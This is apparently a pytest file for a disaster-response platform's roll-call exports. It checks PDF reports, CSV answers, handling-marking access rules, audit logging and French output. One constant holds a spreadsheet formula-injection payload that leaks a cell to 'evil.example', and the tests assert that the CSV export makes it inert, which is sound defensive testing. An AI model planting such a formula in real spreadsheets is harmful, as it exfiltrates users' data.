"""A roll call's PDF situation report and CSV of the answers, read back: the PDF's text with pypdf, the CSV with
the csv module. Who may take them out (H2: the organiser's party and the secretariat only), the audit, the
follow-up's changes, the report in French."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from cmc.extensions import db
from cmc.models import Affected, AuditEvent, Outcome, Quality
from cmc.services import rollcalls
from tests.conftest import bearer_headers
from tests.rollcall_world import world  # noqa: F401

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _client(app: Any, sign_in: Any, account: Any) -> Any:
    client = app.test_client()
    assert sign_in(client, account).status_code == 302
    return client


def _answered(world: Any, **columns: Any) -> Any:  # noqa: F811
    """Five parties asked; three answered (JM twice), AI and BB not."""
    roll_call = world.start(**columns)
    world.answer(roll_call, "JM", status=Affected.COPING, displaced=300, displaced_quality=Quality.ESTIMATE)
    world.answer(roll_call, "JM", status=Affected.COPING, displaced=1200, displaced_quality=Quality.ESTIMATE,
                 departed=30, departed_quality=Quality.CONFIRMED, needs="shelter;medical", note=INJECTION)
    world.answer(roll_call, "HT", author=world.focal["HT"], status=Affected.ASSISTANCE, displaced=5000,
                 displaced_quality=Quality.CONFIRMED, needs="shelter;search_rescue", flags="displaced",
                 note="Roads to the south cut.")
    world.answer(roll_call, "TT", status=Affected.NOT_AFFECTED)
    return roll_call


def _pages(data: bytes) -> list[str]:
    """Each page's text, its whitespace made single spaces (a margin's sentence may wrap)."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages]


def _csv(data: bytes) -> tuple[list[list[str]], list[str], list[list[str]]]:
    """The header block, the column headers and the data rows."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    at = next(i for i, row in enumerate(rows) if row and row[0] == "Party code")
    return rows[:at], rows[at], rows[at + 1:]


def _exports(action: str = "rollcall.export") -> list[AuditEvent]:
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)))


def test_the_pdf_says_what_the_board_says_with_the_marking_on_every_page(app, world, sign_in):  # noqa: F811
    roll_call = _answered(world, handling_code="H1")
    client = _client(app, sign_in, world.delegate["TT"])
    response = client.get(f"/rollcalls/{roll_call.id}/report.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    pages = _pages(response.data)
    text = " ".join(pages)
    assert "Hurricane Lena: how do you stand?" in text and "Emergency Assistance in Disasters" in text
    assert "3 of 5" in text and "Snapshot" in text
    # Totals: displaced 1,200 estimated (JM's latest, not 300 + 1,200) and 5,000 confirmed; departed 30 confirmed.
    assert re.search(r"People displaced 1,200 5,000 6,200", text), text
    assert re.search(r"People who left by sea 0 30 30", text), text
    assert "Anguilla (AI)" in text and "Focal point AI" in text and "Barbados (BB)" in text
    assert text.index("Parties not answered") < text.index("Anguilla (AI)") < text.index("Answers, party by party")
    assert "5,000 * (confirmed)" in text  # HT's figure confirmed as exceptional is marked
    assert "✓ focal point" in text and "Roads to the south cut." in text
    statement = "H1: not to be disclosed in judicial proceedings without the permission of Barbados."
    assert len(pages) >= 1 and all(statement in page for page in pages), pages
    assert all(f"Page {n} of {len(pages)}" in page for n, page in enumerate(pages, start=1))
    [event] = _exports()
    assert event.details["path"] == "pdf" and event.details["handling_code"] == "H1"
    assert event.actor_id == world.delegate["TT"].id


def test_a_long_report_carries_the_statement_on_every_page(app, world, sign_in):  # noqa: F811
    roll_call = world.start(handling_code="H3", handling_text="Response agencies only")
    for code in ("JM", "TT", "HT", "BB", "AI"):
        world.answer(roll_call, code, status=Affected.COPING,
                     note="\n".join(f"Line {n} of the {code} note." for n in range(30)))
    rollcalls.close(world.coordinator, roll_call.id)
    pages = _pages(_client(app, sign_in, world.secretariat).get(f"/rollcalls/{roll_call.id}/report.pdf").data)
    assert len(pages) >= 3
    statement = "H3: Response agencies only (restriction set by Barbados)"
    assert all(statement in page for page in pages)
    assert "Final report" in pages[0] and "5 of 5" in pages[0] and "Every party asked has answered." in pages[0]


def test_the_csv_has_one_row_per_asked_party_equal_to_the_latest_answers(app, world, sign_in):  # noqa: F811
    roll_call = _answered(world, handling_code="H2")
    client = _client(app, sign_in, world.delegate["BB"])  # the organiser's party
    response = client.get(f"/rollcalls/{roll_call.id}/answers.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert not response.data.startswith(b"\xef\xbb\xbf")  # no BOM, as the platform's other CSVs
    block, header, rows = _csv(response.data)
    assert block[0] == ["Handling", "H2", "H2: not to be disseminated without the permission of Barbados."]
    assert ["Roll call", "Hurricane Lena: how do you stand?"] in block
    assert block[4][:2] == ["State", "open"] and "Snapshot" in block[4][2]
    assert len(rows) == 5 and {row[0] for row in rows} == {"JM", "TT", "HT", "BB", "AI"}
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    jm = by_code["JM"]
    assert (jm["Status (code)"], jm["Status"], jm["People displaced"], jm["Displaced: quality"]) == (
        "affected_coping", "Affected, coping", "1200", "estimate")
    assert (jm["People who left by sea"], jm["Departed: quality"], jm["Main needs (codes)"]) == (
        "30", "confirmed", "shelter;medical")
    assert jm["Revision"] == "2" and jm["Answered by"] == "Delegate JM" and jm["Confirmed by the focal point"] == "no"
    assert jm["Note"] == "'" + INJECTION  # inert: a spreadsheet shows it as text, never runs it
    ht = by_code["HT"]
    assert ht["Figures confirmed as exceptional"] == "displaced" and ht["Confirmed by the focal point"] == "yes"
    assert ht["Answered at (UTC)"].endswith("+00:00")
    assert by_code["AI"]["Status (code)"] == "no_answer" and by_code["AI"]["People displaced"] == ""
    assert [row[0] for row in rows[:2]] == ["AI", "BB"]  # the missing first, as on the board
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    [event] = _exports()
    assert event.details == {"path": "csv", "handling_code": "H2", "state": "open", "history": False}


def test_the_csv_history_gives_every_revision(app, world, sign_in):  # noqa: F811
    roll_call = _answered(world)
    client = _client(app, sign_in, world.observer)  # a reader of the board
    _block, header, rows = _csv(client.get(f"/rollcalls/{roll_call.id}/answers.csv?history=1").data)
    jm = [dict(zip(header, row, strict=True)) for row in rows if row[0] == "JM"]
    assert [(r["Revision"], r["People displaced"]) for r in jm] == [("1", "300"), ("2", "1200")]
    assert len(rows) == 6  # JM twice, HT, TT, and the two parties not answered


def test_h2_exports_leave_only_with_the_organisers_party_and_the_secretariat(app, world, sign_in):  # noqa: F811
    roll_call = _answered(world, handling_code="H2")
    tt = _client(app, sign_in, world.delegate["TT"])
    for path in ("report.pdf", "answers.csv"):
        refused = tt.get(f"/rollcalls/{roll_call.id}/{path}")
        assert refused.status_code == 403
        assert "marked H2 by Barbados" in refused.get_data(as_text=True)
    denied = [e for e in _exports() if e.outcome == Outcome.DENIED]
    assert len(denied) == 2 and {e.details["export"] for e in denied} == {"pdf", "csv"}
    assert all(e.actor_id == world.delegate["TT"].id and e.details["handling_code"] == "H2" for e in denied)
    api = app.test_client().get(f"/api/v1/rollcalls/{roll_call.id}/answers.csv",
                                headers=bearer_headers(world.delegate["TT"]))
    assert api.status_code == 403 and api.get_json()["error"]["code"] == "handling_restricted"
    for account in (world.focal["BB"], world.secretariat):
        assert _client(app, sign_in, account).get(f"/rollcalls/{roll_call.id}/report.pdf").status_code == 200
    api_pdf = app.test_client().get(f"/api/v1/rollcalls/{roll_call.id}/report.pdf",
                                    headers=bearer_headers(world.delegate["BB"]))
    assert api_pdf.status_code == 200 and api_pdf.data.startswith(b"%PDF")


def test_h0_exports_are_for_the_boards_readers_only(app, world, sign_in, make_account):  # noqa: F811
    roll_call = _answered(world)
    assert _client(app, sign_in, world.observer).get(f"/rollcalls/{roll_call.id}/answers.csv").status_code == 200
    stranger = _client(app, sign_in, make_account("delegate", party="GY"))  # not in the network
    assert stranger.get(f"/rollcalls/{roll_call.id}/report.pdf").status_code == 404
    assert stranger.get(f"/rollcalls/{roll_call.id + 50}/answers.csv").status_code == 404
    api = app.test_client().get(f"/api/v1/rollcalls/{roll_call.id}/answers.csv?history=1",
                                headers=bearer_headers(world.delegate["HT"]))
    assert api.status_code == 200
    assert len(_csv(api.data)[2]) == 6


def test_a_follow_up_report_shows_the_changes_party_by_party(app, world, sign_in):  # noqa: F811
    first = _answered(world, title="Hurricane Lena: first roll call")
    rollcalls.close(world.coordinator, first.id)
    second = world.start(title="Hurricane Lena: a day later", previous_id=first.id)
    world.answer(second, "JM", status=Affected.ASSISTANCE, displaced=2500, displaced_quality=Quality.CONFIRMED)
    world.answer(second, "AI", status=Affected.NOT_AFFECTED)
    text = " ".join(_pages(_client(app, sign_in, world.coordinator).get(f"/rollcalls/{second.id}/report.pdf").data))
    assert "Changes since the previous roll call" in text and "Hurricane Lena: first roll call" in text
    changes = text[text.index("Changes since the previous roll call"):]
    assert re.search(r"Jamaica \(changed\) Affected, coping Affected, assistance needed 1,200 \(estimate\) "
                     r"2,500 \(confirmed\)", changes), changes
    assert re.search(r"Anguilla \(changed\) No answer Not affected", changes), changes
    assert re.search(r"Trinidad and Tobago \(changed\) Not affected No answer", changes), changes


def test_the_report_in_french(app, world, sign_in):  # noqa: F811
    reader = world.delegate["TT"]
    reader.language = "fr"
    db.session.commit()
    roll_call = _answered(world)
    pages = _pages(_client(app, sign_in, reader).get(f"/rollcalls/{roll_call.id}/report.pdf").data)
    assert all(f"Page {n} sur {len(pages)}" in page for n, page in enumerate(pages, start=1))
    text = " ".join(pages)
    assert "Réseau" in text and "1 200" in text.replace("\u202f", " ").replace("\xa0", " ")


@pytest.mark.parametrize("path", ["report.pdf", "answers.csv"])
def test_a_closed_roll_call_exports_are_final(app, world, sign_in, path):  # noqa: F811
    roll_call = _answered(world)
    rollcalls.close(world.coordinator, roll_call.id)
    data = _client(app, sign_in, world.delegate["JM"]).get(f"/rollcalls/{roll_call.id}/{path}").data
    text = " ".join(_pages(data)) if path.endswith("pdf") else data.decode()
    assert "Final" in text and "Snapshot" not in text


def test_own_questions_and_the_alert_answered_are_in_the_exports(app, world, sign_in):  # noqa: F811
    from cmc.services import alerts

    world.network.alerts_enabled = True
    db.session.commit()
    alert, _created = alerts.publish(world.coordinator, world.network.slug, alerts.AlertInput(
        infos=[alerts.InfoInput(headline="Hurricane Lena makes landfall", event="Hurricane", severity="Moderate")]))
    own = [{"key": "status", "required": True}, {"key": "note", "required": False},
           {"key": "q1", "kind": "count", "label": "Shelters open", "language": "en", "required": False},
           {"key": "q2", "kind": "yesno", "label": "Is the main port open?", "language": "en", "required": False}]
    roll_call = world.start(questions_=own, alert_id=alert.id)
    world.answer(roll_call, "JM", status=Affected.COPING, extra={"q1": 14, "q2": False})
    world.answer(roll_call, "HT", status=Affected.ASSISTANCE, extra={"q1": 3, "q2": True})
    client = _client(app, sign_in, world.delegate["JM"])
    _block, header, rows = _csv(client.get(f"/rollcalls/{roll_call.id}/answers.csv").data)
    assert "Shelters open" in header and "Is the main port open?" in header
    jm = dict(zip(header, next(row for row in rows if row[0] == "JM"), strict=True))
    assert (jm["Shelters open"], jm["Is the main port open?"]) == ("14", "no")
    text = " ".join(_pages(client.get(f"/rollcalls/{roll_call.id}/report.pdf").data))
    assert "In answer to the alert Hurricane Lena makes landfall" in text
    assert re.search(r"Shelters open Haiti 3 Jamaica 14", text), text
    assert re.search(r"Is the main port open\? Haiti Yes Jamaica No", text), text


def test_a_party_asked_but_outside_the_network_may_not_take_the_report_out(app, world, sign_in,  # noqa: F811
                                                                           make_account):
    roll_call = _answered(world)
    asked = make_account("delegate", party="AI")  # Anguilla is asked; this account is not in the network
    client = _client(app, sign_in, asked)
    refused = client.get(f"/rollcalls/{roll_call.id}/answers.csv")
    assert refused.status_code == 403 and "readers of its board" in refused.get_data(as_text=True)
